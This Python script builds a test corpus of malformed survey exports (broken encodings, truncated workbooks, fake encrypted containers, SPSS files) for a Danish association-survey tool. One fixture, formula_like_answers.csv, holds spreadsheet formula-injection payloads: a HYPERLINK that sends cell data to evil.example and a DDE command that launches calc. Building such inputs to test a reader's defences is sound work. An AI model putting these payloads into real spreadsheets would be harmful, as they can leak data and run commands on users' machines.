"""Write the bad-input corpus of this folder (see README.md for what each file is).

Run from the project root to regenerate the committed files::

    .venv/bin/python tests/data/bad/make_corpus.py

Everything is deterministic except the two ``.sav`` files (pyreadstat stores the creation time in
the header). The 100k-row file is not committed: :func:`write_rows_100k` makes it on the fly in
the tests (``tests/test_bad_inputs.py``), with the same demo writers.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import shutil
import struct
import sys
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[2]
if str(ROOT) not in sys.path:  # pragma: no cover - when run as a script
    sys.path.insert(0, str(ROOT))

import numpy as np  # noqa: E402
import pandas as pd  # noqa: E402

from fslt_survey import config  # noqa: E402
from fslt_survey.codebook import Instrument, load_instrument  # noqa: E402
from fslt_survey.demo import cells as dc  # noqa: E402
from fslt_survey.demo import generate_member_responses  # noqa: E402
from fslt_survey.demo import surveyxact as dsx  # noqa: E402
from fslt_survey.demo import writers as dw  # noqa: E402
from fslt_survey.demo.invitees import with_invitees  # noqa: E402
from fslt_survey.registry import load_registry  # noqa: E402

STAMP = dt.datetime(2025, 3, 1, 12, 0, 0)
#: A small generic export: association, role, two needs, members, free text (SurveyXact names).
HEADER = ["forening", "s_1", "s_6_1", "s_6_2", "s_4", "s_31"]
ROWS = [
    ["Lyngby Seniorklub", "Formand", "I høj grad", "Slet ikke", "120", "For få frivillige"],
    ["Lyngby Skakklub", "Kasserer", "I nogen grad", "Ved ikke", "18", ""],
    ["Virum Repair Café", "Formand", "I mindre grad", "I høj grad", "45",
     "Lokaler, især om vinteren"],
    ["Lyngby-Taarbæk Familienetværk", "Ansat", "Slet ikke", "I nogen grad", "60", "Økonomi"],
]


def member_instrument() -> Instrument:
    return load_instrument(config.SURVEYS_DIR / "medlemsundersoegelse" / "instrument.yml")


def text(rows: list[list[str]], delimiter: str = ";", header: list[str] | None = None,
         newline: str = "\r\n") -> str:
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, lineterminator=newline)
    w.writerow(HEADER if header is None else header)
    w.writerows(rows)
    return buf.getvalue()


def demo_frame(n: int = 5, *, seed: int = 7) -> pd.DataFrame:
    inst = member_instrument()
    reg = load_registry(config.DEMO_REGISTRY_FILE)
    ids = list(reg["association_id"])[:n]
    return generate_member_responses(inst, reg, 2025, associations=ids, seed=seed)


# --------------------------------------------------------------------------- containers


def cfb(stream_names: list[str]) -> bytes:
    """A minimal, structurally valid OLE2 compound file (CFB v3) holding empty streams.

    Three 512-byte sectors: the header, one FAT sector, one directory sector with the root
    entry and the named streams (all empty). With ``EncryptionInfo`` and ``EncryptedPackage``
    this is the container Office writes for a password-protected xlsx (``msoffcrypto-tool`` is
    not needed to recognise one: the reader looks for the ``EncryptionInfo`` stream name).
    """
    end, free, fatsect, nostream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    header = bytearray(512)
    header[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHHH", header, 24, 0x003E, 0x0003, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 40, 0, 1, 1, 0, 0x1000, end, 0, end, 0)
    struct.pack_into("<I", header, 76, 0)  # DIFAT[0]: the FAT is sector 0
    for i in range(1, 109):
        struct.pack_into("<I", header, 76 + 4 * i, free)
    fat = bytearray(struct.pack("<II", fatsect, end) + struct.pack("<I", free) * 126)

    def entry(name: str, kind: int, left: int, right: int, child: int) -> bytes:
        raw = (name + "\0").encode("utf-16-le")
        e = bytearray(128)
        e[0:len(raw)] = raw
        struct.pack_into("<HBB", e, 64, len(raw), kind, 1)  # name length, type, black
        struct.pack_into("<III", e, 68, left, right, child)
        struct.pack_into("<II", e, 116, end, 0)  # start sector, size
        return bytes(e)

    names = sorted(stream_names, key=lambda s: (len(s), s.upper()))
    entries = [entry("Root Entry", 5, nostream, nostream, 1 if names else nostream)]
    for i, name in enumerate(names, start=1):  # a right-leaning chain is a valid tree
        entries.append(entry(name, 2, nostream, i + 1 if i < len(names) else nostream, nostream))
    directory = b"".join(entries).ljust(512, b"\0")
    return bytes(header) + bytes(fat) + directory


def zip_bytes(files: dict[str, bytes], *, stored: bool = True) -> bytes:
    out = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(out, "w", method) as zf:
        for name, data in files.items():
            zf.writestr(zipfile.ZipInfo(name, date_time=dw.ZIP_DATE_TIME), data)
    return out.getvalue()


def workbook(path: Path, sheets: dict[str, list[list[object]]]) -> Path:
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for row in rows:
            ws.append(row)
    return dw.save_workbook_deterministic(wb, path, STAMP)


# --------------------------------------------------------------------------- the corpus


def write_text_cases(out: Path) -> None:
    body = text(ROWS)
    (out / "empty.csv").write_bytes(b"")
    (out / "blank_lines_only.csv").write_bytes(b"\r\n   \r\n\t\r\n")
    (out / "bom_only.csv").write_bytes(b"\xef\xbb\xbf")
    (out / "header_only.csv").write_text(text([]), encoding="utf-8", newline="")
    (out / "header_only_no_newline.csv").write_text(";".join(HEADER), encoding="utf-8")
    rng = random.Random(2025)
    (out / "binary_garbage.csv").write_bytes(bytes(rng.randrange(256) for _ in range(2048)))
    (out / "pdf_renamed.csv").write_bytes(
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Length 12 /Filter /FlateDecode >>\nstream\n"
        + bytes([0x78, 0x9C, 0x00, 0x01, 0x02, 0xFF, 0x00, 0x10]) + b"\nendstream\nendobj\n%%EOF\n"
    )
    nul = body.encode("utf-8").replace(b"Kasserer", b"Kass\x00erer")
    (out / "nul_bytes.csv").write_bytes(nul)
    stray = body.replace("Økonomi", "Økonomi\x0b og lokaler")
    (out / "stray_control_char.csv").write_text(stray, encoding="utf-8", newline="")
    (out / "utf16le_bom_tab.csv").write_bytes(
        b"\xff\xfe" + text(ROWS, "\t").encode("utf-16-le"))
    (out / "utf16be_bom_semicolon.csv").write_bytes(
        b"\xfe\xff" + body.encode("utf-16-be"))
    (out / "utf16le_no_bom.csv").write_bytes(text(ROWS, "\t").encode("utf-16-le"))
    (out / "utf16_odd_length.csv").write_bytes(
        b"\xff\xfe" + text(ROWS, "\t").encode("utf-16-le") + b"\x0a")
    (out / "cp1252_semicolon.csv").write_text(body, encoding="cp1252", newline="")
    (out / "utf8_bom_comma_quoted.csv").write_bytes(
        b"\xef\xbb\xbf" + text([[*r[:5], r[5] + '; "citat", og mere'] for r in ROWS],
                               ",").encode("utf-8"))
    lines = body.split("\r\n")
    mixed = "\r\n".join(lines[:3]).encode("utf-8") + b"\r\n" + "\r\n".join(lines[3:]).encode(
        "cp1252")
    (out / "mixed_encodings.csv").write_bytes(mixed)
    (out / "cp1252_with_utf8_bom.csv").write_bytes(b"\xef\xbb\xbf" + body.encode("cp1252"))
    comma_row = ",".join([*ROWS[2][:5], "Lokaler"])
    mixed_delim = "\r\n".join([*lines[:3], comma_row, lines[4], ""])
    (out / "mixed_delimiters.csv").write_text(mixed_delim, encoding="utf-8", newline="")
    trailing = "".join(line + ";\r\n" for line in lines if line) + ";;;;;;\r\n\r\n"
    (out / "trailing_delimiters_blank_rows.csv").write_text(trailing, encoding="utf-8",
                                                            newline="")
    ragged = body.replace("Kasserer;I nogen grad;Ved ikke;18;", "Kasserer;I nogen grad;Ved ikke;"
                          "18;;ekstra")
    (out / "ragged_row.csv").write_text(ragged, encoding="utf-8", newline="")
    (out / "unclosed_quote.csv").write_text(body.replace("Lokaler,", '"Lokaler,'),
                                            encoding="utf-8", newline="")
    quoted = text([[*r[:5], r[5] + "\r\nAnden linje\r\n\r\nTredje"] for r in ROWS])
    (out / "quoted_newlines.csv").write_text(quoted, encoding="utf-8", newline="")
    (out / "cr_line_endings.csv").write_text(text(ROWS, newline="\r"), encoding="utf-8",
                                             newline="")
    dup = text([[*r, r[2]] for r in ROWS], header=[*HEADER, "s_6_1"])
    (out / "duplicated_headers.csv").write_text(dup, encoding="utf-8", newline="")
    blank = text([[*r[:4], "x", *r[4:]] for r in ROWS], header=[*HEADER[:4], "", *HEADER[4:]])
    (out / "blank_header_with_values.csv").write_text(blank, encoding="utf-8", newline="")
    extra = text([[*r, "ja", "123"] for r in ROWS], header=[*HEADER, "Intern note", "Løbenr"])
    (out / "extra_columns.csv").write_text(extra, encoding="utf-8", newline="")
    (out / "missing_columns.csv").write_text(
        text([r[:3] for r in ROWS], header=HEADER[:3]), encoding="utf-8", newline="")
    (out / "no_association_column.csv").write_text(
        text([r[1:] for r in ROWS], header=HEADER[1:]), encoding="utf-8", newline="")
    budget = "Post;Beløb\r\nHusleje;12.000\r\nKaffe;850,50\r\n"
    (out / "unrelated_table.csv").write_text(budget, encoding="utf-8", newline="")
    unknown = [list(r) for r in ROWS]
    unknown[0][2] = "Meget høj grad"
    unknown[1][1] = "Kasser"
    unknown[2][3] = "7"
    (out / "unknown_labels.csv").write_text(text(unknown), encoding="utf-8", newline="")
    rng_rows = [list(r) for r in ROWS]
    rng_rows[0][4] = "-5"
    rng_rows[1][4] = "999999"
    rng_rows[2][4] = "mange"
    rng_rows[3][4] = "Ved ikke"
    (out / "out_of_range_numbers.csv").write_text(text(rng_rows), encoding="utf-8", newline="")
    danish = text(
        [["31-12-2025 14:05", "Lyngby Seniorklub", "1.200", "12,5"],
         ["01-02-2025 08:00:00", "Lyngby Skakklub", "1 200", "3"],
         ["2025-02-03", "Virum Repair Café", "1.200,0", "0,5"],
         ["", "Lyngby-Taarbæk Familienetværk", "45", "7,0"]],
        header=["Tidsstempel", "forening", "s_4", "s_5"])
    (out / "danish_dates_decimal_comma.csv").write_text(danish, encoding="cp1252", newline="")
    long_text = ("Vi har brug for flere frivillige. " * 4500)[:150_000]
    long_rows = [list(r) for r in ROWS]
    long_rows[0][5] = long_text
    (out / "very_long_cell.csv").write_text(text(long_rows), encoding="utf-8", newline="")
    people = [
        ["Lyngby Seniorklub", "Formand", "I høj grad", "", "", ""],
        ["Lyngby Seniorklub", "Formand", "I høj grad", "Slet ikke", "120", "Mere komplet"],
        ["Test", "Formand", "I høj grad", "Slet ikke", "1", ""],
        ["Foreningen Der Ikke Findes", "Formand", "I høj grad", "", "", ""],
        ["Lyngby Skakklub", "", "", "", "", ""],
        ["", "", "", "", "", ""],
        ["Virum Repair Café", "Formand", "Ved ikke", "", "", ""],
    ]
    (out / "tests_duplicates_nonmembers.csv").write_text(text(people), encoding="utf-8",
                                                         newline="")
    formulas = [list(r) for r in ROWS]
    formulas[0][5] = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
    formulas[1][5] = "+SUM(1;2)"
    formulas[2][5] = "@cmd|' /C calc'!A0"
    formulas[3][5] = "-2+3 mere end sidste år"
    (out / "formula_like_answers.csv").write_text(text(formulas), encoding="utf-8",
                                                  newline="")


def write_xlsx_cases(out: Path) -> None:
    inst = member_instrument()
    df = demo_frame(4)
    ok = out / "_ok.xlsx"
    dw.write_msforms_xlsx(df, inst, ok)
    data = ok.read_bytes()
    ok.unlink()
    (out / "truncated.xlsx").write_bytes(data[: len(data) // 2])
    pos = data.find(b"<sheetData>")
    damaged = bytearray(data)
    damaged[pos + 20] ^= 0x55
    (out / "crc_damaged.xlsx").write_bytes(bytes(damaged))
    (out / "password_protected.xlsx").write_bytes(
        cfb(["EncryptionInfo", "EncryptedPackage"]))
    (out / "legacy_excel97.xlsx").write_bytes(cfb(["Workbook"]))
    (out / "ods_renamed.xlsx").write_bytes(zip_bytes({
        "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": b"<office:document-content/>",
    }))
    (out / "docx_renamed.xlsx").write_bytes(zip_bytes({
        "[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>",
    }))
    workbook(out / "empty_workbook.xlsx", {"Ark1": [], "Ark2": []})
    workbook(out / "xlsx_header_only.xlsx", {"Svar": [HEADER]})
    workbook(out / "merged_header_rows.xlsx", {"Svar": [
        ["Forening", "Om jer", None, "Behov", None, "Fritekst"],
        [None, "Rolle", "Medlemmer", "Rekruttering", "Fastholdelse", "Udfordring"],
        *[[r[0], r[1], int(r[4]), r[2], r[3], r[5] or None] for r in ROWS],
    ]})
    workbook(out / "title_rows_above_header.xlsx", {"Svar": [
        ["Medlemsundersøgelse 2025 - udtræk"], ["Udtrukket 01-03-2025"], [],
        HEADER, *[[*r[:4], int(r[4]), r[5] or None] for r in ROWS],
    ]})
    workbook(out / "data_on_second_sheet.xlsx", {
        "Om udtrækket": [["Udtræk fra SurveyXact"], ["Kontakt: analyse@fslt.dk"]],
        "Svar": [HEADER, *[[*r[:4], int(r[4]), r[5] or None] for r in ROWS]],
    })
    workbook(out / "summary_sheet_first.xlsx", {
        "Oversigt": [["Svar", "Antal"], ["I høj grad", 2], ["Slet ikke", 1]],
        "Svar": [HEADER, *[[*r[:4], int(r[4]), r[5] or None] for r in ROWS]],
    })
    workbook(out / "xlsx_odd_cells.xlsx", {"Svar": [
        HEADER,
        ["Lyngby Seniorklub", "Formand", "I høj grad", "#N/A", 120.0, "=1/0"],
        ["Lyngby Skakklub", " Kasserer ", "i nogen grad", "#DIV/0!", dt.datetime(2025, 3, 1),
         True],
        ["Virum Repair Café", 1, 2, 3, "45,0", 12.5],
    ]})
    workbook(out / "xlsx_long_cells.xlsx", {"Svar": [
        HEADER, *[[*r[:5], ("Lang tekst om lokaler. " * 1500)[:32767]] for r in ROWS],
    ]})
    renamed = demo_frame(4)
    dw.write_msforms_xlsx(renamed, inst, out / "_forms.xlsx")
    from openpyxl import load_workbook

    wb = load_workbook(out / "_forms.xlsx")
    ws = wb.active
    for cell in ws[1]:
        if cell.value == inst.item("medlemmer").text:
            cell.value = cell.value.upper().replace("?", " ?")  # case and spacing: still matches
        elif cell.value == inst.item("frivillige").text:
            cell.value = "Antal frivillige (ca.)"  # reworded: unmatched, item missing
    dw.save_workbook_deterministic(wb, out / "renamed_columns.xlsx", STAMP)
    (out / "_forms.xlsx").unlink()
    dup = workbook(out / "duplicated_question_text.xlsx", {"Svar": [
        ["Id", "Starttidspunkt", "Fuldførelsestidspunkt", "Mail", "Navn", "forening",
         inst.item("rolle").text, inst.item("rolle").text],
        [1, STAMP, STAMP, "anonymous", None, "Lyngby Seniorklub", "Formand", "Kasserer"],
    ]})
    assert dup.exists()
    danish = demo_frame(4, seed=11)
    danish["medlemmer"] = ["1.200", "12,5", "1 200", "ca. 40"]
    dw.write_msforms_xlsx(danish, inst, out / "msforms_danish_numbers.xlsx")


def write_surveyxact_cases(out: Path) -> None:
    inst = member_instrument()
    df = demo_frame(4)

    def trio(name: str, **kw) -> Path:
        folder = out / name
        if folder.exists():
            shutil.rmtree(folder)
        dw.write_surveyxact_trio(df, inst, folder, **kw)
        return folder

    (trio("sx_missing_labels") / "labels.csv").unlink()
    (trio("sx_missing_structure") / "structure.csv").unlink()
    trio("sx_utf16_tab", encoding="utf-16", delimiter="\t")
    folder = trio("sx_inconsistent_labels")
    labels = (folder / "labels.csv").read_bytes().decode("cp1252")
    labels = labels.replace("s_6_1;9;Ved ikke\r\n", "")  # code 9 of s_6_1 has no label
    labels += "s_99;1;Spørgsmål der ikke findes\r\n"
    (folder / "labels.csv").write_text(labels, encoding="cp1252", newline="")
    dataset = (folder / "dataset.csv").read_bytes().decode("cp1252").splitlines()
    head = dataset[0].split(";")
    col = head.index("s_6_1")
    for i, code in ((1, "9"), (2, "7")):  # 9: known to the scale; 7: known to nobody
        cells = dataset[i].split(";")
        cells[col] = code
        dataset[i] = ";".join(cells)
    (folder / "dataset.csv").write_text("\r\n".join(dataset) + "\r\n", encoding="cp1252",
                                        newline="")
    folder = trio("sx_unknown_option")  # option 99 "Andet" of s_7 is not in the codebook
    dataset = (folder / "dataset.csv").read_bytes().decode("cp1252").split("\r\n")
    ticks = ["1", "0", "1", ""]
    dataset = [dataset[0] + ";s_7_99"] + [
        line + ";" + ticks[i] for i, line in enumerate(dataset[1:-1])] + [""]
    (folder / "dataset.csv").write_text("\r\n".join(dataset), encoding="cp1252", newline="")
    with (folder / "structure.csv").open("a", encoding="cp1252", newline="") as fh:
        fh.write(f"s_7;s_7_99;Closed;Multiple;{inst.item('kendskab_tilbud').text};99;Andet;\r\n")
    with (folder / "labels.csv").open("a", encoding="cp1252", newline="") as fh:
        fh.write("s_7_99;0;Ikke valgt\r\ns_7_99;1;Valgt\r\n")
    folder = trio("sx_labels_row_without_value")
    lines = (folder / "labels.csv").read_bytes().decode("cp1252").split("\r\n")
    lines[2] = "statoverall;;"
    (folder / "labels.csv").write_text("\r\n".join(lines), encoding="cp1252", newline="")
    folder = trio("sx_structure_without_variablename")
    lines = (folder / "structure.csv").read_bytes().decode("cp1252").split("\r\n")
    lines[0] = lines[0].replace("variableName", "varName")
    (folder / "structure.csv").write_text("\r\n".join(lines), encoding="cp1252", newline="")
    data = dw.surveyxact_columns(df, inst)
    names = list(data)
    half = len(names) // 2
    first = [["respondentid", *names[1:half]]] + [
        [data["respondentid"][i], *(data[c][i] for c in names[1:half])] for i in range(len(df))]
    second = [["respondentid", *names[half:]]] + [
        [data["respondentid"][i], *(data[c][i] for c in names[half:])]
        for i in range(len(df) - 1)]
    structure = [["questionName", "variableName", "questionType", "subType", "questionText",
                  "choiceValue", "choiceText"], *dsx.structure_rows(df, inst)]
    workbook(out / "sx_split_sheets_mismatch.xlsx", {
        "Dataset(1)": first, "Dataset(2)": second, "Structure": structure,
        "Labels": list(dsx.label_rows(df, inst)),
    })


def write_real_layout_cases(out: Path) -> None:
    """Exports in the layout the real tools write (issue 15): SurveyXact with the invitees who
    never answered, zeros in unticked options, the status group and metadata columns, the
    workbook's sheets in the order Labels, Dataset, Structure, SurveyXact's SPSS file; Google
    Forms timestamps in the forms Google writes; a blank first line above the data."""
    inst = member_instrument()
    reg = load_registry(config.DEMO_REGISTRY_FILE)
    five = reg.iloc[:5].reset_index(drop=True)
    df = demo_frame(4)
    df.loc[3, "status"] = "partial"  # opened, answered the first questions
    small = with_invitees(df, five, inst, 2025)  # F005 and the five second contacts
    folder = out / "sx_real_invitees"
    if folder.exists():
        shutil.rmtree(folder)
    dw.write_surveyxact_trio(small, inst, folder)
    data = dw.surveyxact_columns(small, inst)
    structure = [["questionName", "variableName", "questionType", "subType", "questionText",
                  "choiceValue", "choiceText"], *dsx.structure_rows(small, inst)]
    workbook(out / "sx_real_sheet_order.xlsx", {
        "Labels": list(dsx.label_rows(small, inst)),
        "Dataset": [list(data), *([data[c][i] for c in data] for i in range(len(small)))],
        "Structure": structure,
    })
    dw.write_spss(small, inst, out / "sx_real_spss.sav")
    rows = [
        ["2025/03/14 1:22:31 PM CET", "Lyngby Seniorklub", "I høj grad"],
        ["2025/04/02 9:41:10 AM GMT+2", "Lyngby Seniorklub", "I nogen grad"],
        ["14/03/2025 10.22.31", "Lyngby Skakklub", "Slet ikke"],
        ["14.03.2025 10.22.31", "Virum Repair Café", "I mindre grad"],
        ["2025/03/15 9:00:00 PM CEST", "Lyngby-Taarbæk Familienetværk", "I høj grad"],
        ["i går", "Lyngby-Taarbæk Familienetværk", ""],
    ]
    header = ["Timestamp", inst.item("forening").text, inst.item("behov_rekruttering").text]
    (out / "googleforms_timestamps.csv").write_text(
        text(rows, ",", header), encoding="utf-8", newline="")
    (out / "blank_first_line.csv").write_text(";;;;;\r\n" + text(ROWS).split("\r\n", 1)[1],
                                              encoding="utf-8", newline="")


def write_spss_cases(out: Path) -> None:
    import pyreadstat

    frame = pd.DataFrame({
        "respondentid": [1.0, 2.0, 3.0, 4.0],
        "forening": ["Lyngby Seniorklub", "Lyngby Skakklub", "Virum Repair Café",
                     "Lyngby-Taarbæk Familienetværk"],
        "s_6_1": [1.0, 7.0, 2.0, 9.0],  # 7 has no value label and is not a code of the scale
        "s_6_2": [4.0, 3.0, np.nan, 1.0],  # no value labels at all: bare codes
        "s_4": [120.0, 18.0, 45.0, -3.0],
    })
    pyreadstat.write_sav(
        frame, str(out / "unlabelled_codes.sav"),
        column_labels=["Respondent-id", "Forening", "Rekruttering", "Fastholdelse", "Medlemmer"],
        variable_value_labels={"s_6_1": {1.0: "I høj grad", 2.0: "I nogen grad",
                                         9.0: "Ved ikke"}},
        missing_ranges={"s_6_1": [9.0]},
    )
    data = (out / "unlabelled_codes.sav").read_bytes()
    (out / "truncated.sav").write_bytes(data[: len(data) // 3])
    (out / "text_named_sav.sav").write_text(text(ROWS), encoding="utf-8", newline="")


def write_rows_100k(path: Path, n: int = 100_000) -> Path:
    """``n`` responses to the member survey as a Forms-style CSV (question texts as headers,
    ``;``, UTF-8), made with the demo generator and writers: the association, role, one need,
    the member count and one multi-select question. The registry has ~90 associations, so
    nearly all records are duplicates. No timestamp column: its per-value parsing would make
    the file a benchmark of the date parser rather than of reading and cleaning."""
    inst = member_instrument()
    reg = load_registry(config.DEMO_REGISTRY_FILE)
    df = generate_member_responses(inst, reg, 2025, n=n, seed=3)
    keep = {"forening", "rolle", "behov_rekruttering", "medlemmer", "kendskab_tilbud"}
    drop = [it.id for it in inst.items if it.id not in keep and it.id in df.columns]
    drop += [c for c in df.columns if "__" in c and c.split("__")[0] not in keep]
    cols = dw.forms_columns(df.drop(columns=drop), inst)
    escaped = [dc.escaped(values, ";") for values in cols.values()]
    return dw.write_delimited(path, list(cols), escaped, encoding="utf-8", delimiter=";")


def main(out: Path = HERE) -> None:
    write_text_cases(out)
    write_xlsx_cases(out)
    write_surveyxact_cases(out)
    write_spss_cases(out)
    write_real_layout_cases(out)


if __name__ == "__main__":
    main()
